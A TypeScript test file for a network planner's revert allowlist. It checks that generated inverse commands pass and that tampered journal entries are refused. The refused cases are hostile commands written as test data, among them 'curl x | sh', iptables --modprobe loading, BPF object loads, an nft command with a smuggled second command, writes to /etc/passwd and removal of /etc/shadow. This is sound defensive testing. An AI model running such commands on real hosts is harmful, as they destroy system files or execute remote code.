/**
 * The revert allowlist: every inverse the planner's step builders produce is allowed (generated
 * hosts, the hand-made host shapes, every recording, and each builder with its variants), and
 * entries a tampered journal could carry are refused.
 */

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildPlan } from '../../../source/plan/build.js';
import { bridgeNameProblem } from '../../../source/plan/names.js';
import { revertCommandProblem } from '../../../source/plan/revert-allowlist.js';
import { NETWORKD_LEASE_PATH } from '../../../source/plan/steps/networkd-lease-file.js';
import { buildRemoveNatStep, natStateFor } from '../../../source/plan/steps/remove-nat.js';
import {
  NETWORKD_HOLD_PATH,
  NETWORKMANAGER_HOLD_PATH,
} from '../../../source/plan/steps/renderer-hold-files.js';
import { buildStopDhcpStep } from '../../../source/plan/steps/stop-dhcp.js';
import type { Command, Plan } from '../../../source/plan/types.js';
import { dhcpClient, NETWORKD_HAND_BACK, natRule, request, variant } from '../plan/fixtures.js';
import { hostArbitrary, snapshotFromSpec } from '../plan/generators.js';
import {
  dockerHost,
  ifupdownDhclient,
  natSetup,
  networkManagerServer,
  slaacHost,
  staticMulti,
} from '../plan/hosts.js';
import { planFor, recordingNames } from '../recordings/replay.js';

function problemsOf(plan: Plan): string[] {
  return plan.steps.flatMap((step) =>
    step.inverse.flatMap((command) => {
      const problem = revertCommandProblem(command);
      return problem ? [`${step.id}: ${problem}`] : [];
    }),
  );
}

describe('every inverse the planner builds is allowed', () => {
  it('for generated hosts', () => {
    fc.assert(
      // A NIC named like an ip keyword ("fd", "bc") is refused by design: its plan is blocked as
      // undo-would-be-refused (unrevertable.test.ts); every other name's inverses must pass.
      fc.property(
        hostArbitrary.filter((spec) => bridgeNameProblem(spec.nic) === null),
        (spec) => {
          const plan = buildPlan(
            snapshotFromSpec(spec),
            request({ nic: spec.autoNic ? null : spec.nic, bridge: spec.bridge }),
          );
          expect(problemsOf(plan)).toEqual([]);
        },
      ),
      { numRuns: 200 },
    );
  });

  it.each([
    ['natSetup', natSetup],
    ['staticMulti', staticMulti],
    ['slaacHost', slaacHost],
    ['dockerHost', dockerHost],
    ['ifupdownDhclient', ifupdownDhclient],
    ['networkManagerServer', networkManagerServer],
  ])('for the %s host shape', (_name, host) => {
    const plan = buildPlan(host(), request());
    expect(plan.steps.length).toBeGreaterThan(0);
    expect(problemsOf(plan)).toEqual([]);
  });

  it.each(recordingNames())('for the recorded host %s', async (name) => {
    expect(problemsOf(await planFor(name))).toEqual([]);
  });

  it('for remove-nat with iptables and nft rules at every position form', () => {
    const snapshot = variant((s) => {
      s.netfilter.natRules = [
        natRule({ position: 1, bridge: 'fcbr0' }),
        natRule({ bridge: 'fcbr0', position: undefined }),
        ...[1, 2, 5, undefined].map((position, index) =>
          natRule({
            source: 'nftables',
            text: `ip saddr 203.0.113.0/24 oifname "ens18" masquerade # handle ${10 + index}`,
            table: 'fcnat',
            chain: 'postrouting',
            spec: [],
            handle: 10 + index,
            position,
            bridge: 'fcbr0',
          }),
        ),
      ];
    });
    const step = buildRemoveNatStep(snapshot, 'fcbr0', natStateFor(snapshot, 'fcbr0'));
    const heads = step?.inverse.map((command) =>
      command.kind === 'exec' ? command.argv.slice(0, 3).join(' ') : command.kind,
    );
    expect(heads?.sort()).toEqual([
      'iptables -t nat',
      'iptables -t nat',
      'nft add rule',
      'nft add rule',
      'nft add rule',
      'nft insert rule',
    ]);
    for (const command of step?.inverse ?? []) expect(revertCommandProblem(command)).toBeNull();
  });

  it('for the networkd hold and lease steps: the file removals, networkctl reload, the link-local replace', () => {
    const plan = buildPlan(
      variant(() => {}),
      request(),
    );
    const inverses = plan.steps
      .filter((step) => step.kind === 'renderer-hold' || step.kind === 'keep-lease')
      .flatMap((step) => step.inverse);
    expect(inverses).toEqual([
      { kind: 'remove-file', path: NETWORKD_HOLD_PATH },
      ...NETWORKD_HAND_BACK,
      { kind: 'remove-file', path: NETWORKD_LEASE_PATH },
    ]);
    for (const command of inverses) expect(revertCommandProblem(command)).toBeNull();
  });

  it('for DHCP clients restarted by name, by absolute path (/proc/PID/exe) and through busybox', () => {
    const step = buildStopDhcpStep(
      [
        dhcpClient(10, ['dhclient', '-4', 'ens18']),
        dhcpClient(11, ['/usr/sbin/dhclient', '-4', '-pf', '/run/dhclient.ens18.pid', 'ens18']),
        dhcpClient(12, ['/usr/sbin/dhcpcd', '-q', 'ens18']),
        dhcpClient(13, ['udhcpc', '-f', '-i', 'ens18']),
        dhcpClient(14, ['/usr/bin/busybox', 'udhcpc', '-f', '-i', 'ens18'], { program: 'udhcpc' }),
      ],
      'ens18',
    );
    expect(step?.inverse).toHaveLength(5);
    for (const command of step?.inverse ?? []) expect(revertCommandProblem(command)).toBeNull();
  });
});

const exec = (...argv: string[]): Command => ({ kind: 'exec', argv });
const batch = (...lines: string[][]): Command => ({ kind: 'ip-batch', lines });
const spawn = (...argv: string[]): Command => ({ kind: 'spawn-detached', argv });

describe('entries a tampered journal could carry are refused', () => {
  it.each<[string, Command]>([
    ['a shell', exec('sh', '-c', 'ip link del fcbr0; curl x | sh')],
    ['a shell by path', exec('/bin/sh', '-c', 'true')],
    ['ip netns exec', exec('ip', 'netns', 'exec', 'x', 'sh')],
    ['ip -batch from a file', exec('ip', '-batch', '/etc/x')],
    ['ip -force -batch from a file', exec('ip', '-force', '-batch', '/etc/x')],
    ['ip in another namespace', exec('ip', '-n', 'other', 'link', 'del', 'eth0')],
    ['ip -6 netns', exec('ip', '-6', 'netns', 'add', 'x')],
    ['a device moved to another namespace', batch(['link', 'set', 'dev', 'ens18', 'netns', '1'])],
    ['a batch line that enters a namespace', batch(['netns', 'exec', 'x', 'sh'])],
    ['a batch line with a quote', batch(['addr', 'add', '"x', 'dev', 'ens18'])],
    ['an empty batch', batch()],
    ['ip xfrm', batch(['xfrm', 'state', 'flush'])],
    ['ip link show (a verb the planner never inverts with)', batch(['link', 'show'])],
    ['iptables --modprobe', exec('iptables', '--modprobe=/tmp/x', '-t', 'nat', '-A', 'POSTROUTING')],
    ['iptables -M', exec('iptables', '-t', 'nat', '-A', 'POSTROUTING', '-M', '/tmp/x', '-j', 'MASQUERADE')],
    ...['--mo=/tmp/x', '--mod=/tmp/x', '--modp=/tmp/x', '--modprobe=/tmp/x', '--modpr'].map(
      (token): [string, Command] => [
        `iptables ${token} (an abbreviation getopt_long takes for --modprobe)`,
        exec('iptables', '-t', 'nat', '-A', 'POSTROUTING', token, '-o', 'ens18', '-j', 'MASQUERADE'),
      ],
    ),
    ...['-vM/tmp/x', '-Mx', '-wM'].map((token): [string, Command] => [
      `iptables ${token} (-M bundled with other short options)`,
      exec('iptables', '-t', 'nat', '-A', 'POSTROUTING', token, '-j', 'MASQUERADE'),
    ]),
    ...[
      ['link', 'set', 'dev', 'ens18', 'xdp', 'obj', '/tmp/x.o'],
      ['link', 'set', 'dev', 'ens18', 'xdpgeneric', 'object', '/tmp/x.o'],
      ['link', 'set', 'dev', 'ens18', 'xdpdrv', 'pinned', '/sys/fs/bpf/x'],
      ['link', 'set', 'dev', 'ens18', 'xdpoffload', 'object-file', '/tmp/x.o'],
      ['link', 'set', 'dev', 'ens18', 'xdp', 'fd', '3'],
      ['link', 'set', 'dev', 'ens18', 'xdp', 'bytecode-file', '/tmp/x'],
      ['route', 'add', '203.0.113.0/24', 'encap', 'bpf', 'in', 'obj', '/tmp/x.o', 'dev', 'ens18'],
      ['route', 'replace', 'default', 'via', '198.51.100.1', 'encap', 'seg6local', 'dev', 'ens18'],
    ].flatMap((line): [string, Command][] => [
      [`the batch line "${line.join(' ')}" (loads a file into the kernel)`, batch(line)],
      [`ip ${line.join(' ')} (loads a file into the kernel)`, exec('ip', ...line)],
    ]),
    ['iptables -F', exec('iptables', '-t', 'filter', '-F')],
    ['an ACCEPT put into filter', exec('iptables', '-t', 'filter', '-I', 'INPUT', '1', '-j', 'ACCEPT')],
    [
      'a nat rule that is not a MASQUERADE',
      exec('iptables', '-t', 'nat', '-A', 'PREROUTING', '-j', 'DNAT', '--to-destination', '203.0.113.9'),
    ],
    [
      'a MASQUERADE with a second jump',
      exec('iptables', '-t', 'nat', '-A', 'POSTROUTING', '-j', 'MASQUERADE', '-g', 'x'),
    ],
    [
      'ip6tables (the planner makes no ip6tables rule)',
      exec('ip6tables', '-t', 'nat', '-A', 'POSTROUTING', '-j', 'MASQUERADE'),
    ],
    ['an nft accept', exec('nft', 'add', 'rule', 'inet', 'filter', 'input', 'tcp dport 22 accept')],
    [
      'an nft masquerade that jumps',
      exec('nft', 'add', 'rule', 'ip', 'fcnat', 'post', 'masquerade jump evil'),
    ],
    ['iptables-restore', exec('iptables-restore', '/etc/x')],
    ['nft -f', exec('nft', '-f', '/etc/x')],
    ['nft a second command', exec('nft', 'add', 'rule', 'ip', 'fcnat', 'post', 'masquerade; flush ruleset')],
    ['nft flush', exec('nft', 'flush', 'ruleset')],
    ['nft delete table', exec('nft', 'delete', 'table', 'ip', 'fcnat')],
    ['kill', exec('kill', '-9', '1')],
    [
      'a signal (no inverse stops a process)',
      { kind: 'signal', pid: 4242, signal: 'TERM', startTime: '9', argv: ['udhcpc'] },
    ],
    ['systemctl', exec('systemctl', 'stop', 'sshd')],
    ['stopping a shell by its argv', { kind: 'stop-started', argv: ['/bin/sh', '-c', 'x'], signal: 'KILL' }],
    ['stopping sshd by its argv', { kind: 'stop-started', argv: ['/usr/sbin/sshd', '-D'], signal: 'TERM' }],
    [
      'stopping a client path with ..',
      { kind: 'stop-started', argv: ['/usr/sbin/../../tmp/udhcpc', '-i', 'fcbr0'], signal: 'TERM' },
    ],
    ['a spawned shell', spawn('sh', '-c', 'x')],
    ['a spawned program named like a client but relative', spawn('./dhclient', 'ens18')],
    ['a spawned client path with ..', spawn('/usr/sbin/../../tmp/dhclient', 'ens18')],
    ['busybox running something else', spawn('/usr/bin/busybox', 'sh', '-c', 'x')],
    ['a write outside /run', { kind: 'write-file', path: '/etc/passwd', content: 'x', mode: 0o644 }],
    [
      'a write to a unit under /run',
      { kind: 'write-file', path: '/run/systemd/system/x.service', content: 'x', mode: 0o644 },
    ],
    [
      'a hold file made executable',
      { kind: 'write-file', path: NETWORKD_HOLD_PATH, content: 'x', mode: 0o4755 },
    ],
    ['networkctl reconfigure (never planned)', exec('networkctl', 'reconfigure', 'ens18')],
    ['networkctl down', exec('networkctl', 'down', 'ens18')],
    ['networkctl reload with more', exec('networkctl', 'reload', '--help')],
    ['networkctl by a path', exec('/usr/bin/networkctl', 'reload')],
    [
      "a write of the bridge's lease file (only its removal is an inverse)",
      { kind: 'write-file', path: NETWORKD_LEASE_PATH, content: 'x', mode: 0o644 },
    ],
    ['a removal outside /run', { kind: 'remove-file', path: '/etc/shadow' }],
    ['a removal that climbs out of /run', { kind: 'remove-file', path: '/run/../etc/shadow' }],
  ])('%s', (_what, command) => {
    expect(revertCommandProblem(command)).toEqual(expect.any(String));
  });

  it('allows a NAT rule whose options merely contain "mo" or an M in a value', () => {
    expect(
      revertCommandProblem(
        exec(
          'iptables',
          '-t',
          'nat',
          '-A',
          'POSTROUTING',
          '-m',
          'comment',
          '--comment',
          'MASQ',
          '-j',
          'MASQUERADE',
        ),
      ),
    ).toBeNull();
  });

  it('allows the hold files themselves', () => {
    for (const path of [NETWORKD_HOLD_PATH, NETWORKMANAGER_HOLD_PATH]) {
      expect(revertCommandProblem({ kind: 'remove-file', path })).toBeNull();
      expect(revertCommandProblem({ kind: 'write-file', path, content: 'x', mode: 0o644 })).toBeNull();
    }
  });
});
